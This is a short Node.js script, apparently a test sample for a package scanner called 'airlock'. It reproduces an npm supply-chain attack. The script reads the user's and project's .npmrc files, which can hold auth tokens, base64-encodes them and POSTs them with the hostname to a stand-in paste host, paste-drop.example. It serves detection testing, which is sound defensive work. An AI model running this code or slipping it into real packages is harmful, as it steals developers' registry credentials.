// DEFANGED reproduction: steal ~/.npmrc to a paste service (base64 in a POST form body).
// Only ever run inside `airlock scan`; paste-drop.example is answered by airlock's sink.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const querystring = require('querystring');

const files = [path.join(os.homedir(), '.npmrc'), path.join(process.env.INIT_CWD || process.cwd(), '.npmrc')];
let loot = '';
for (const f of files) {
  try {
    loot += '# ' + f + '\n' + fs.readFileSync(f, 'utf8') + '\n';
  } catch (e) {}
}
// Pastebin-style API: a form POST with the paste in api_paste_code.
const body = querystring.stringify({
  api_dev_key: '7f3c2b9e1d0a4c6b8e2f5a1d3c9b7e0f',
  api_option: 'paste',
  api_paste_private: '1',
  api_paste_name: os.hostname(),
  api_paste_code: Buffer.from(loot || 'empty').toString('base64'),
});
const req = https.request(
  { method: 'POST', hostname: 'paste-drop.example', path: '/api/api_post.php',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(body) } },
  (res) => res.resume()
);
req.on('error', () => {});
req.setTimeout(5000, () => req.destroy());
req.end(body);
